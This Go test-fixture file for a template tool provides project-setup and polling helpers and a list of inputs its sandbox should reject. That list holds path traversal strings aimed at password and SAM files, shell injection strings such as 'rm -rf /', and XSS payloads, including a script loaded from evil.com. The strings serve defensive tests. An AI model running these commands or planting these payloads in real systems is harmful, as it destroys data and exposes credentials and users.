// Package testutils holds fixtures shared by tmpltool's tests: template
// projects on disk or in memory, and the attack vectors the sandbox tests
// replay.
package testutils

import (
	"os"
	"path/filepath"
	"sort"
	"testing"
	"time"

	"github.com/spf13/afero"
	"github.com/stretchr/testify/require"
)

// WriteFile creates dir/name with content, making parent directories, and
// returns the full path.
func WriteFile(t testing.TB, dir, name, content string) string {
	t.Helper()

	path := filepath.Join(dir, filepath.FromSlash(name))
	require.NoError(t, os.MkdirAll(filepath.Dir(path), 0o755))
	require.NoError(t, os.WriteFile(path, []byte(content), 0o644))
	return path
}

// CreateTempProject writes files, keyed by slash-separated relative path,
// into a fresh temporary directory and returns the directory.
func CreateTempProject(t testing.TB, files map[string]string) string {
	t.Helper()

	dir := t.TempDir()
	for _, name := range sortedNames(files) {
		WriteFile(t, dir, name, files[name])
	}
	return dir
}

// MemProject returns an in-memory filesystem holding files. Keys are
// absolute paths.
func MemProject(t testing.TB, files map[string]string) afero.Fs {
	t.Helper()

	fsys := afero.NewMemMapFs()
	for _, path := range sortedNames(files) {
		require.NoError(t, afero.WriteFile(fsys, path, []byte(files[path]), 0o644))
	}
	return fsys
}

func sortedNames(files map[string]string) []string {
	names := make([]string, 0, len(files))
	for name := range files {
		names = append(names, name)
	}
	sort.Strings(names)
	return names
}

// StandardTemplates are small templates exercising each surface of the
// capability set, keyed by file name.
var StandardTemplates = map[string]string{
	"function.tmpl": `{{ sha256("hello") }}`,
	"filter.tmpl":   `{{ "Hello World"|slugify }}`,
	"test.tmpl":     `{% if "user@example.com"|is_email %}valid{% else %}invalid{% endif %}`,
	"context.tmpl":  `{{ read_file("data/name.txt") }}`,
	"data/name.txt": "tmpltool",
}

// SecurityTestCases are inputs the sandbox must refuse.
var SecurityTestCases = struct {
	PathTraversal    []string
	AbsolutePaths    []string
	CommandInjection []string
	ScriptInjection  []string
}{
	PathTraversal: []string{
		"../../../etc/passwd",
		`..\..\..\windows\system32\config\sam`,
		"templates/../../secret.txt",
		"a/b/../../../etc/shadow",
		"./../outside",
		"..",
	},
	AbsolutePaths: []string{
		"/etc/passwd",
		"/./../../etc/passwd",
		"//server/share",
	},
	CommandInjection: []string{
		"echo x; rm -rf /",
		"echo x && rm -rf /",
		"echo x | cat /etc/passwd",
		"echo `id`",
		"echo $(id)",
		"echo x > /tmp/out",
	},
	ScriptInjection: []string{
		"<script>alert('xss')</script>",
		"<img src=x onerror=alert('xss')>",
		"<svg onload=alert('xss')>",
		"<iframe src=javascript:alert('xss')>",
		"<body onload=alert('xss')>",
		"<div onclick=alert('xss')>",
		"<script src=//evil.com/malicious.js></script>",
	},
}

// AssertFilePermissions checks the permission bits of path.
func AssertFilePermissions(t testing.TB, path string, expectedMode os.FileMode) {
	t.Helper()

	info, err := os.Stat(path)
	require.NoError(t, err)

	actualMode := info.Mode()
	require.Equal(t, expectedMode, actualMode&os.FileMode(0o777),
		"File %s has incorrect permissions: got %o, want %o",
		path, actualMode&os.FileMode(0o777), expectedMode)
}

// WaitFor polls cond until it holds or timeout passes.
func WaitFor(t testing.TB, timeout time.Duration, cond func() bool, msg string) {
	t.Helper()

	deadline := time.Now().Add(timeout)
	for time.Now().Before(deadline) {
		if cond() {
			return
		}
		time.Sleep(10 * time.Millisecond)
	}
	t.Fatalf("%s: not satisfied within %v", msg, timeout)
}

// WaitForFileChange waits for filePath's modification time to move past
// originalModTime.
func WaitForFileChange(t testing.TB, filePath string, originalModTime time.Time, timeout time.Duration) {
	t.Helper()

	WaitFor(t, timeout, func() bool {
		info, err := os.Stat(filePath)
		return err == nil && info.ModTime().After(originalModTime)
	}, "file "+filePath+" was not modified")
}
